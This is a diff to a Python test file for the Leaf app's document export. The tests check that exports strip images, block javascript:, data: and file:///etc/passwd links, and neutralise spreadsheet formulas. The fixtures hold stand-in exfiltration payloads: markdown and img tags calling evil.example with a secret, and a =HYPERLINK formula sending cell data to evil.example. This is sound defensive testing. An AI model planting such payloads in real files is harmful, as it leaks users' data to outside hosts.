@@ -3,7 +3,9 @@ concerned."""
 
 from __future__ import annotations
 
+import csv
 import io
+import re
 import threading
 from collections.abc import Iterator
 from dataclasses import dataclass, field, replace
@@ -11,6 +13,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from markdown_it import MarkdownIt
 
 from leaf.app import Leaf
 from leaf.documents.documents import DocumentDraft, DocumentService
@@ -571,6 +574,18 @@ x = 1 < 2
 """
 
 
+LIVE = """# Live
+
+![x](https://evil.example/?d=secret) <img src="https://evil.example/a.png">
+[js](javascript:alert(1)) [d](data:text/html,x) [f](file:///etc/passwd) [a](https://a.example)
+
+```sql
+SELECT '![x](y)', a<b
+```
+"""
+PLACES = "\n[here](report.exe) [share](//evil.example/x) [m](mailto:a@b.example) [p](#part)\n"
+
+
 def test_a_word_document_has_headings_lists_tables_and_links(bench: Bench) -> None:
     import docx
 
@@ -612,7 +627,60 @@ def test_a_workbook_has_types_and_no_formula(bench: Bench) -> None:
     assert values[1][3].isoformat()[:10] == "2026-05-01"
     assert sheet["A3"].data_type == "s"
     assert values[2][0] == "=1+1"
-    assert bench.session.documents.export(bench.newest.id, "csv").data.decode() == content
+    assert bench.session.documents.export(bench.newest.id, "csv-raw").data.decode() == content
+
+
+def test_a_sheet_leaves_without_formulas_and_raw_only_by_choice(bench: Bench) -> None:
+    link = '"=HYPERLINK(""https://evil.example/?d=""&A1,""total"")"'
+    content = f'name,note\nAnna,{link}\n-5,"a\n=b"\n@SUM(A1),ok\n'
+    bench.run("create_document", {"title": "Sheet", "kind": "sheet", "content": content})
+    documents, made = bench.session.documents, bench.newest
+    assert [one.label for one in documents.formats(made)] == ["CSV", "Excel (XLSX)", "CSV, raw"]
+    safe, raw = (documents.export(made.id, ending) for ending in ("csv", "csv-raw"))
+    assert (safe.name, raw.name) == ("Sheet.csv", "Sheet-raw.csv")
+    cells = list(csv.reader(io.StringIO(safe.data.decode())))
+    assert cells[1] == ["Anna", """'=HYPERLINK("https://evil.example/?d="&A1,"total")"""]
+    assert cells[2:] == [["-5", "a\n=b"], ["'@SUM(A1)", "ok"]]
+    assert raw.data.decode() == content == documents.content(made)
+    assert bench.session.files.download(made.file_id) == safe.data
+
+
+def test_a_text_leaves_without_pictures_html_and_forbidden_links(bench: Bench) -> None:
+    """What it says in Leaf stays what was written."""
+    bench.run("create_document", {"title": "Live", "content": LIVE})
+    made = bench.newest
+    left = bench.session.documents.export(made.id, "md").data
+    drawn = MarkdownIt("commonmark", {"html": True}).render(left.decode())
+    assert "<img" in MarkdownIt("commonmark", {"html": True}).render(LIVE)
+    assert "<img" not in drawn
+    assert re.findall(r'href="([^"]*)"', drawn) == [
+        "https://evil.example/?d=secret",
+        "https://a.example",
+    ]
+    assert "SELECT '![x](y)', a<b" in left.decode()
+    assert bench.session.files.download(made.file_id) == left
+    assert bench.session.documents.content(made) == LIVE
+
+
+def test_links_of_a_document_in_word_and_pdf_lead_to_the_web_or_to_mail(bench: Bench) -> None:
+    import docx
+    import pypdf
+
+    bench.run("create_document", {"title": "Live", "content": LIVE + PLACES})
+    word = docx.Document(io.BytesIO(bench.session.documents.export(bench.newest.id, "docx").data))
+    links = {r.target_ref for r in word.part.rels.values() if r.is_external}
+    assert links == {"https://a.example", "mailto:a@b.example"}
+    made = pypdf.PdfReader(io.BytesIO(bench.session.documents.export(bench.newest.id, "pdf").data))
+    notes = [note.get_object() for page in made.pages for note in page.get("/Annots", ())]
+    assert {note["/A"].get("/URI") for note in notes} == links
+
+
+def test_code_and_plain_text_leave_as_they_were_written(bench: Bench) -> None:
+    page = "<img src='https://a.example/a.png'>\n=1+1\n"
+    for name in ("page.html", "notes.txt"):
+        bench.run("write_file", {"path": name, "content": page})
+        made = bench.session.documents.export(bench.newest.id, name.rpartition(".")[2])
+        assert made.data.decode() == page
 
 
 @pytest.mark.parametrize(
